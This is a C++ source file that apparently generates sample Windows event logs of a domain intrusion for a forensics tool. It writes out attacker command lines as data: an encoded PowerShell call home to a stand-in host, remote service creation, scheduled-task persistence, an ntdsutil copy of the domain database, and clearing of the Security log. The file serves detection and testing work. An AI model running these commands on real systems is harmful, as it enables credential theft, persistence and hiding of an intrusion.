#include "sample/story.h"

#include <fmt/format.h>

#include <algorithm>

#include "base/check.h"
#include "sample/domain.h"

namespace spoor::sample {
namespace {

/// A time of that day: "08:41:10" or "08:41:10.250".
Timestamp at(std::string_view clock) {
    const auto time = Timestamp::parse(fmt::format("2024-05-14T{}Z", clock));
    CHECK(time.has_value());
    return *time;
}

class Morning {
public:
    Morning();
    Story tell();

private:
    void workstation_starts();
    void brian_arrives();
    void jimmy_administers();
    void others_work();
    void servers_keep_house();
    void intrusion_at_the_workstation();
    void intrusion_at_the_file_server();
    void intrusion_at_the_domain_controller();
    void traces_are_removed();
    void collect(Host& host, Story& story) const;

    Host ws07_{{.name = "WS07",
                .dns_domain = "corp.example",
                .address = "10.0.10.7",
                .boot = at("08:01:12.480"),
                .machine_id = 0x7a07c0de,
                .boot_number = 41,
                .first_record = 118'000}};
    Host fs01_{{.name = "FS01",
                .dns_domain = "corp.example",
                .address = "10.0.20.11",
                .boot = at("06:12:40.120") - Duration::seconds(5 * 86'400),
                .machine_id = 0x51f50101,
                .boot_number = 9,
                .first_record = 481'000}};
    Host dc01_{{.name = "DC01",
                .dns_domain = "corp.example",
                .address = "10.0.20.10",
                .boot = at("05:40:02.900") - Duration::seconds(12 * 86'400),
                .machine_id = 0x6dc0d001,
                .boot_number = 17,
                .first_record = 2'114'000}};
    Domain corp_{dc01_, "corp.example"};

    Account brian_ = corp_.account("brian", 1108);
    Account jimmy_ = corp_.account("jimmy", 1103, true);
    Account backup_ = corp_.account("svc_backup", 1131);

    const Logon* brian_session_ = nullptr;
    const Process* explorer_ = nullptr;
    Connection brian_share_;
    const Logon* brian_on_fs01_ = nullptr;
    const Process* jimmy_shell_ = nullptr;
    Logon* jimmy_on_ws07_ = nullptr;
    Connection desktop_;
    Logon* jimmy_on_fs01_ = nullptr;
    const Process* mstsc_ = nullptr;
    const Process* admin_shell_ = nullptr;
};

Morning::Morning() {
    std::uint32_t rid = 1001;
    for (Host* host : {&dc01_, &fs01_, &ws07_}) host->set_machine(corp_.account(host->name() + '$', rid++));
    corp_.already_running(dc01_);
    corp_.already_running(fs01_);
}

Story Morning::tell() {
    servers_keep_house();
    others_work();
    workstation_starts();
    brian_arrives();
    jimmy_administers();
    intrusion_at_the_workstation();
    intrusion_at_the_file_server();
    intrusion_at_the_domain_controller();
    traces_are_removed();
    Story story;
    for (Host* host : {&ws07_, &fs01_, &dc01_}) collect(*host, story);
    return story;
}

void Morning::workstation_starts() {
    corp_.boot(ws07_);
    // The machine itself logs on to the domain: policy from SYSVOL, directory by LDAP.
    const Process& lsass = ws07_.process("lsass.exe");
    const Process& policy = ws07_.process("svchost.exe");
    corp_.ticket_granting_ticket(at("08:01:24.100"), ws07_.machine(), ws07_.address());
    const Connection ldap = corp_.connect(at("08:01:24.300"), ws07_, lsass, dc01_, 389);
    Logon& directory = corp_.network_logon(at("08:01:24.390"), ldap, ws07_.machine(), Package::Kerberos);
    corp_.logoff(at("08:01:31.020"), dc01_, directory);
    const Connection sysvol = corp_.connect(at("08:01:26.500"), ws07_, ws07_.process("System"), dc01_, 445);
    Logon& policies = corp_.network_logon(at("08:01:26.610"), sysvol, ws07_.machine(), Package::Kerberos);
    corp_.access_share(at("08:01:26.700"), sysvol, policies,
                       {"\\\\*\\SYSVOL", "\\??\\C:\\Windows\\SYSVOL\\sysvol",
                        "corp.example\\Policies\\{31B2F340-016D-11D2-945F-00C04FB984F9}\\gpt.ini"});
    corp_.logoff(at("08:01:41.870"), dc01_, policies);
    ws07_.exit(at("08:01:58.000"), ws07_.spawn(at("08:01:42.200"), policy, ws07_.system(),
                                               "C:\\Windows\\System32\\gpupdate.exe", "gpupdate.exe /target:computer"));
}

void Morning::brian_arrives() {
    corp_.failed_console_logon(at("08:03:11.300"), ws07_, brian_);
    Logon& session = corp_.console_logon(at("08:03:19.640"), ws07_, brian_);
    brian_session_ = &session;
    explorer_ = &ws07_.process("explorer.exe");
    const Process& outlook = ws07_.spawn(at("08:03:52.110"), *explorer_, session,
                                         "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                                         "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"");
    corp_.connect_outside(at("08:03:54.000"), ws07_, outlook, "198.51.100.20", "mail.corp.example", 443);
    ws07_.spawn(at("08:04:20.400"), *explorer_, session, "C:\\Program Files\\Mozilla Firefox\\firefox.exe",
                "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\"");
    // His drives: policy from the domain controller, then the team's share.
    const Connection sysvol = corp_.connect(at("08:03:23.800"), ws07_, ws07_.process("System"), dc01_, 445);
    Logon& policies = corp_.network_logon(at("08:03:23.910"), sysvol, brian_, Package::Kerberos);
    corp_.access_share(at("08:03:24.000"), sysvol, policies,
                       {"\\\\*\\SYSVOL", "\\??\\C:\\Windows\\SYSVOL\\sysvol", "corp.example\\scripts\\logon.cmd"});
    corp_.logoff(at("08:03:38.500"), dc01_, policies);
    brian_share_ = corp_.connect(at("08:05:02.200"), ws07_, ws07_.process("System"), fs01_, 445);
    Logon& share = corp_.network_logon(at("08:05:02.330"), brian_share_, brian_, Package::Kerberos);
    brian_on_fs01_ = &share;
    for (int i = 0; i < 6; ++i)
        corp_.access_share(
            at("08:05:02.400") + Duration::seconds(i * 140), brian_share_, share,
            {"\\\\*\\Projects", "\\??\\D:\\Projects", fmt::format("Bridge\\drawing-{}.dwg", 17 + i), i % 3 == 2});
    ws07_.exit(at("08:21:10.700"),
               ws07_.spawn(at("08:20:48.900"), *explorer_, session, "C:\\Windows\\System32\\calc.exe", "calc.exe"));
    corp_.lock(at("08:26:40.200"), ws07_, session);
    corp_.unlock(at("08:34:05.780"), ws07_, session);
}

void Morning::jimmy_administers() {
    // From his own workstation, WS03, whose logs nobody collects.
    const Connection desktop = corp_.connect_from(at("08:15:30.000"), "10.0.10.3", "WS03", dc01_, 3389);
    corp_.ticket_granting_ticket(at("08:15:28.700"), jimmy_, "10.0.10.3");
    Logon& session = corp_.remote_desktop_logon(at("08:15:30.100"), desktop, jimmy_, 2);
    const Process& explorer = dc01_.process("explorer.exe");
    const Process& console =
        dc01_.spawn(at("08:16:02.000"), explorer, *session.linked, "C:\\Windows\\System32\\mmc.exe",
                    "\"C:\\Windows\\system32\\mmc.exe\" C:\\Windows\\system32\\dsa.msc");
    dc01_.exit(at("08:29:12.900"), console);
    corp_.remote_desktop_logoff(at("08:31:19.500"), desktop, session);
}

void Morning::others_work() {
    struct Colleague {
        std::string_view name;
        std::uint32_t rid;
        std::string_view address;
        std::string_view workstation;
    };
    constexpr Colleague kColleagues[] = {{"ann", 1110, "10.0.10.12", "WS12"},
                                         {"carla", 1114, "10.0.10.15", "WS15"},
                                         {"deniz", 1117, "10.0.10.18", "WS18"},
                                         {"marek", 1121, "10.0.10.21", "WS21"}};
    for (int round = 0; round < 24; ++round) {
        for (const Colleague& colleague : kColleagues) {
            const Account account = corp_.account(colleague.name, colleague.rid);
            const Timestamp time =
                at("08:00:20.000") + ms(round * 172'000 + static_cast<std::int64_t>(fs01_.random() % 150'000));
            if (round == 0) corp_.ticket_granting_ticket(time - ms(500), account, colleague.address);
            const Connection connection =
                corp_.connect_from(time, colleague.address, colleague.workstation, fs01_, 445);
            Logon& session = corp_.network_logon(time + ms(60), connection, account,
                                                 round % 5 == 4 ? Package::Ntlm : Package::Kerberos);
            corp_.access_share(
                time + ms(90), connection, session,
                {"\\\\*\\Projects", "\\??\\D:\\Projects", fmt::format("Office\\week-{}.xlsx", 18 + round % 3)});
            corp_.logoff(time + ms(9'000 + static_cast<std::int64_t>(fs01_.random() % 8'000)), fs01_, session);
            // Their machines ask the domain controller for policy now and then.
            if (round % 4 != 1) continue;
            const Account machine = corp_.account(std::string(colleague.workstation) + '$', colleague.rid + 100);
            const Timestamp policy = time + ms(31'000);
            const Connection ldap = corp_.connect_from(policy, colleague.address, colleague.workstation, dc01_, 389);
            Logon& directory = corp_.network_logon(policy + ms(40), ldap, machine, Package::Kerberos);
            corp_.logoff(policy + ms(2'900), dc01_, directory);
        }
    }
    // Marek has changed his password, and his telephone has not heard of it.
    const Account marek = corp_.account("marek", 1121);
    for (int i = 0; i < 3; ++i) {
        const Timestamp time = at("08:12:07.000") + Duration::seconds(i * 61);
        corp_.failed_network_logon(time, corp_.connect_from(time - ms(20), "10.0.10.44", "MAREK-PHONE", fs01_, 445),
                                   marek, 0xc000006a);
    }
}

void Morning::servers_keep_house() {
    // The file server talks to the domain controller under its own name.
    for (int i = 0; i < 5; ++i) {
        const Timestamp time = at("08:02:10.000") + Duration::seconds(i * 840);
        const Connection ldap = corp_.connect(time, fs01_, fs01_.process("lsass.exe"), dc01_, 389);
        Logon& directory = corp_.network_logon(time + ms(70), ldap, fs01_.machine(), Package::Kerberos);
        corp_.logoff(time + ms(4'100), dc01_, directory);
    }
    // A service with an account of its own restarts, and a backup runs as a scheduled task.
    const Account scanner = corp_.account("svc_scan", 1130);
    Logon& scan = corp_.service_logon(at("08:25:00.300"), fs01_, scanner);
    fs01_.spawn(at("08:25:00.400"), fs01_.process("services.exe"), scan, "C:\\Program Files\\Scanner\\scansvc.exe",
                "\"C:\\Program Files\\Scanner\\scansvc.exe\" --service");
    Logon& job = corp_.batch_logon(at("08:20:00.200"), fs01_, backup_);
    const Process& script =
        fs01_.spawn(at("08:20:00.350"), fs01_.process("svchost.exe"), job, "C:\\Windows\\System32\\cmd.exe",
                    "C:\\Windows\\system32\\cmd.exe /c D:\\Scripts\\backup.cmd");
    const Process& copy = fs01_.spawn(at("08:20:00.900"), script, job, "C:\\Windows\\System32\\Robocopy.exe",
                                      "robocopy D:\\Projects E:\\Backup\\Projects /MIR /R:1");
    fs01_.exit(at("08:23:41.000"), copy, 1);
    fs01_.exit(at("08:23:41.120"), script);
    corp_.logoff(at("08:23:42.000"), fs01_, job);
}

void Morning::intrusion_at_the_workstation() {
    const Logon& brian = *brian_session_;
    const Process& outlook = ws07_.process("OUTLOOK.EXE");
    // 08:41 A mail, a document with a macro, a shell that calls home.
    const Process& word = ws07_.spawn(at("08:41:05.300"), outlook, brian,
                                      "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                                      "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
                                      "\"C:\\Users\\brian\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
                                      "Outlook\\9KQ2\\Invoice_4471.docm\"");
    const Process& shell =
        ws07_.spawn(at("08:41:22.810"), word, brian, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA");
    corp_.connect_outside(at("08:41:24.020"), ws07_, shell, "203.0.113.66", "updates.invoice-portal.example", 443);
    corp_.create_file(at("08:41:31.400"), ws07_, shell, "C:\\Users\\brian\\AppData\\Local\\Temp\\prnhelp.exe");
    struct Step {
        std::string_view time;
        std::string_view image;
        std::string_view command;
    };
    for (const Step& step :
         {Step{"08:42:10.000", "C:\\Windows\\System32\\whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /all"},
          Step{"08:42:41.500", "C:\\Windows\\System32\\net.exe",
               "\"C:\\Windows\\system32\\net.exe\" group \"Domain Admins\" /domain"},
          Step{"08:43:15.200", "C:\\Windows\\System32\\nltest.exe",
               "\"C:\\Windows\\system32\\nltest.exe\" /dclist:corp"}})
        ws07_.exit(at(step.time) + ms(420),
                   ws07_.spawn(at(step.time), shell, brian, std::string(step.image), std::string(step.command)));
    // 08:45 A script on the share has an administrator's password in it.
    corp_.access_share(at("08:45:20.700"), brian_share_, *brian_on_fs01_,
                       {"\\\\*\\IT", "\\??\\D:\\IT", "scripts\\map_drives.ps1"});
    // 08:47 The old password first, then the right one.
    const Connection wrong = corp_.connect(at("08:47:02.000"), ws07_, shell, fs01_, 445);
    corp_.failed_network_logon(at("08:47:02.090"), wrong, jimmy_, 0xc000006a);
    corp_.failed_network_logon(at("08:47:19.410"), wrong, jimmy_, 0xc000006a);
    // 08:49 A shell as jimmy: the same person, another account.
    Logon& jimmy = corp_.runas(at("08:49:03.500"), ws07_, shell, jimmy_);
    jimmy_on_ws07_ = &jimmy;
    jimmy_shell_ = &ws07_.spawn(at("08:49:03.620"), shell, jimmy, "C:\\Windows\\System32\\cmd.exe",
                                "C:\\Windows\\system32\\cmd.exe");
}

void Morning::intrusion_at_the_file_server() {
    // 08:52 A copy to the administrators' share, and a service made from it.
    const Process& net = ws07_.spawn(at("08:52:00.100"), *jimmy_shell_, *jimmy_on_ws07_,
                                     "C:\\Windows\\System32\\net.exe", "net use \\\\FS01\\ADMIN$");
    const Connection smb = corp_.connect(at("08:52:00.300"), ws07_, ws07_.process("System"), fs01_, 445);
    Logon& session = corp_.network_logon(at("08:52:00.410"), smb, jimmy_, Package::Kerberos);
    corp_.access_share(at("08:52:00.500"), smb, session, {"\\\\*\\ADMIN$", "\\??\\C:\\Windows", "prnhelp.exe", true});
    ws07_.exit(at("08:52:01.000"), net);
    const Process& control =
        ws07_.spawn(at("08:52:30.000"), *jimmy_shell_, *jimmy_on_ws07_, "C:\\Windows\\System32\\sc.exe",
                    "sc \\\\FS01 create PrintHelper binPath= C:\\Windows\\prnhelp.exe");
    corp_.access_share(at("08:52:30.150"), smb, session, {"\\\\*\\IPC$", "", "svcctl", true});
    corp_.install_service(at("08:52:30.240"), fs01_, session, "PrintHelper", "C:\\Windows\\prnhelp.exe");
    ws07_.exit(at("08:52:30.400"), control);
    ws07_.exit(at("08:52:44.300"), ws07_.spawn(at("08:52:44.000"), *jimmy_shell_, *jimmy_on_ws07_,
                                               "C:\\Windows\\System32\\sc.exe", "sc \\\\FS01 start PrintHelper"));
    const Process& helper = fs01_.spawn(at("08:52:44.200"), fs01_.process("services.exe"), fs01_.system(),
                                        "C:\\Windows\\prnhelp.exe", "C:\\Windows\\prnhelp.exe");
    const Process& command =
        fs01_.spawn(at("08:52:46.000"), helper, fs01_.system(), "C:\\Windows\\System32\\cmd.exe",
                    "cmd.exe /c whoami & net localgroup \"Remote Desktop Users\" CORP\\jimmy /add");
    fs01_.exit(at("08:52:46.900"), command);
    fs01_.exit(at("08:53:30.000"), helper);
    corp_.logoff(at("08:54:12.700"), fs01_, session);
    // 08:56 A desktop on the file server.
    mstsc_ = &ws07_.spawn(at("08:56:01.000"), *jimmy_shell_, *jimmy_on_ws07_, "C:\\Windows\\System32\\mstsc.exe",
                          "mstsc /v:FS01");
    desktop_ = corp_.remote_desktop_client(at("08:56:04.200"), ws07_, *mstsc_, jimmy_, fs01_);
    jimmy_on_fs01_ = &corp_.remote_desktop_logon(at("08:56:04.400"), desktop_, jimmy_, 2);
    admin_shell_ = &fs01_.spawn(at("08:57:30.000"), fs01_.process("explorer.exe"), *jimmy_on_fs01_->linked,
                                "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\"");
    // 08:58 A way to come back.
    const Process& tasks =
        fs01_.spawn(at("08:58:41.000"), *admin_shell_, *admin_shell_->logon, "C:\\Windows\\System32\\schtasks.exe",
                    "schtasks /create /tn \\Microsoft\\Windows\\PrintHelper\\Update /tr C:\\Windows\\prnhelp.exe /sc "
                    "daily /st 03:00 /ru SYSTEM");
    corp_.create_task(at("08:58:41.200"), fs01_, tasks, "\\Microsoft\\Windows\\PrintHelper\\Update",
                      "C:\\Windows\\prnhelp.exe");
    fs01_.exit(at("08:58:41.400"), tasks);
    fs01_.exit(at("08:59:05.300"), fs01_.spawn(at("08:59:05.000"), *admin_shell_, *admin_shell_->logon,
                                               "C:\\Windows\\System32\\schtasks.exe",
                                               "schtasks /run /tn \\Microsoft\\Windows\\PrintHelper\\Update"));
    corp_.run_task(at("08:59:05.200"), fs01_, "\\Microsoft\\Windows\\PrintHelper\\Update", "C:\\Windows\\prnhelp.exe",
                   "C:\\Windows\\prnhelp.exe");
}

void Morning::intrusion_at_the_domain_controller() {
    // 09:02 A process on the domain controller by WMI, which takes a copy of the directory.
    const Process& wmic =
        fs01_.spawn(at("09:02:10.000"), *admin_shell_, *admin_shell_->logon, "C:\\Windows\\System32\\wbem\\WMIC.exe",
                    "wmic /node:DC01 process call create \"cmd.exe /c ntdsutil \\\"ac i ntds\\\" ifm \\\"create full "
                    "C:\\PerfLogs\\1\\\" q q\"");
    const Connection mapper = corp_.connect(at("09:02:10.400"), fs01_, wmic, dc01_, 135);
    Logon& session = corp_.network_logon(at("09:02:10.520"), mapper, jimmy_, Package::Kerberos);
    const Process& provider = dc01_.spawn(at("09:02:10.900"), dc01_.process("svchost.exe"), dc01_.network_service(),
                                          "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
                                          "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
    const Process& shell = dc01_.spawn(at("09:02:11.100"), provider, session, "C:\\Windows\\System32\\cmd.exe",
                                       "cmd.exe /c ntdsutil \"ac i ntds\" ifm \"create full C:\\PerfLogs\\1\" q q");
    const Process& ntdsutil = dc01_.spawn(at("09:02:11.300"), shell, session, "C:\\Windows\\System32\\ntdsutil.exe",
                                          "ntdsutil \"ac i ntds\" ifm \"create full C:\\PerfLogs\\1\" q q");
    corp_.create_file(at("09:02:25.000"), dc01_, ntdsutil, "C:\\PerfLogs\\1\\Active Directory\\ntds.dit");
    dc01_.exit(at("09:02:39.000"), ntdsutil);
    dc01_.exit(at("09:02:39.100"), shell);
    fs01_.exit(at("09:02:12.000"), wmic);
    corp_.logoff(at("09:03:05.300"), dc01_, session);
    // 09:04 The copy is fetched by SMB.
    const Connection smb = corp_.connect(at("09:04:01.000"), fs01_, fs01_.process("System"), dc01_, 445);
    Logon& fetch = corp_.network_logon(at("09:04:01.110"), smb, jimmy_, Package::Kerberos);
    corp_.access_share(at("09:04:01.200"), smb, fetch,
                       {"\\\\*\\C$", "\\??\\C:\\", "PerfLogs\\1\\Active Directory\\ntds.dit"});
    corp_.logoff(at("09:04:48.000"), dc01_, fetch);
}

void Morning::traces_are_removed() {
    // 09:06 FS01's Security log is cleared; what was written since the last collection is gone.
    const Process& clear = fs01_.spawn(at("09:06:30.000"), *admin_shell_, *admin_shell_->logon,
                                       "C:\\Windows\\System32\\wevtutil.exe", "wevtutil cl Security");
    corp_.clear_security_log(at("09:06:30.300"), fs01_, *admin_shell_->logon);
    fs01_.exit(at("09:06:30.350"), clear);
    fs01_.exit(at("09:07:40.000"), *admin_shell_);
    corp_.remote_desktop_logoff(at("09:07:41.000"), desktop_, *jimmy_on_fs01_);
    ws07_.exit(at("09:07:43.200"), *mstsc_);
    ws07_.exit(at("09:08:20.000"), *jimmy_shell_);
    for (Logon& logon : ws07_.logons())
        if (logon.account.name == "jimmy") corp_.logoff(at("09:08:20.600"), ws07_, logon);
}

void Morning::collect(Host& host, Story& story) const {
    const bool was_cleared = &host == &fs01_;
    const Timestamp collected = at("09:00:00");
    const Timestamp cleared = at("09:06:30.300");
    for (ChannelLog& log : host.take_logs()) {
        // A channel's name is its file's, as Windows has it: slashes as %4.
        std::string name = log.channel;
        if (const std::size_t slash = name.find('/'); slash != std::string::npos) name.replace(slash, 1, "%4");
        if (was_cleared && log.channel == "Security") {
            LogFile before{
                fmt::format("{}/Archive-Security-0900.evtx", host.name()), host.full_name(), log.channel, {}};
            LogFile after{fmt::format("{}/Security.evtx", host.name()), host.full_name(), log.channel, {}};
            for (Record& record : log.records) {
                if (record.time < collected)
                    before.records.push_back(std::move(record));
                else if (record.time >= cleared)
                    after.records.push_back(std::move(record));
                else
                    ++story.records_lost;
            }
            story.files.push_back(std::move(before));
            story.files.push_back(std::move(after));
            continue;
        }
        story.files.push_back(
            {fmt::format("{}/{}.evtx", host.name(), name), host.full_name(), log.channel, std::move(log.records)});
    }
    for (const Logon& logon : host.logons()) {
        const bool lost = was_cleared && logon.start >= collected && logon.start < cleared;
        story.sessions.push_back({host.name(), logon, logon.linked != nullptr ? logon.linked->id : 0, !lost});
    }
}

}  // namespace

Story tell_story() { return Morning().tell(); }

}  // namespace spoor::sample
